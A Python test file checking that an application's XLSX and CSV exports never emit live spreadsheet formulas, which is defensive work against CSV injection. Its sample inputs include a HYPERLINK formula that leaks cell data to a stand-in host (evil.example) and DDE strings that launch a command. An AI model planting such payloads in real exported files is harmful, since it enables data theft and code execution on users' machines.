"""Exports never emit a live formula (OWASP CSV injection): a value typed as
``=HYPERLINK(…)`` reads back as text, in XLSX and in CSV."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from app.exports.table import Cell, Col, Table
from app.exports.writers import csv_bytes, write_xlsx

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")',
    "+33 6 12 34 56 78",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _table() -> Table:
    rows: list[list[Cell]] = [[name, -1250, "Dupont"] for name in HOSTILE]
    return Table(
        "Participants",
        [Col("Nom"), Col("Solde", "cents"), Col("=Titre")],
        rows,
        notes=("=1+2",),
    )


def test_xlsx_holds_no_formula(tmp_path):
    target = tmp_path / "export.xlsx"
    write_xlsx([_table()], target, about=[("Nom", "=EVIL()")])
    book = load_workbook(target)
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
    # Nothing in the file's XML is a formula element either.
    with zipfile.ZipFile(target) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    sheet = book["Participants"]
    # The text reads exactly as typed; the amount stays a (negative) number.
    assert [sheet.cell(row=i + 2, column=1).value for i in range(len(HOSTILE))] == HOSTILE
    assert sheet.cell(row=2, column=2).value == pytest.approx(-12.5)
    assert sheet.cell(row=1, column=3).value == "=Titre"


def test_csv_neutralises_formula_like_text():
    text = csv_bytes(_table()).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert rows[0] == ["Nom", "Solde", "=Titre"]  # our own header, not data
    names = [r[0] for r in rows[1:]]
    assert names == ["'" + v for v in HOSTILE]
    # No cell a spreadsheet would evaluate, but amounts stay numbers.
    assert all(not n.startswith(("=", "+", "-", "@", "\t", "\r")) for n in names)
    assert {r[1] for r in rows[1:]} == {"-12,50"}
    assert {r[2] for r in rows[1:]} == {"Dupont"}
